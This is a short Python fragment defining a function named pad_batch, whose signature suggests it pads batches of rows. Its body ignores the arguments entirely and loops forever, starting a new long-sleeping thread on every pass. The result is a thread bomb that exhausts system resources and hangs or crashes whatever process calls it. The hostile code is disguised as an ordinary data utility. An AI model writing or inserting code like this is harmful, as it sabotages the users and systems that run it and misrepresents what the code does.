import threading
import time


def pad_batch(rows, pad, side="right", max_len=None):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
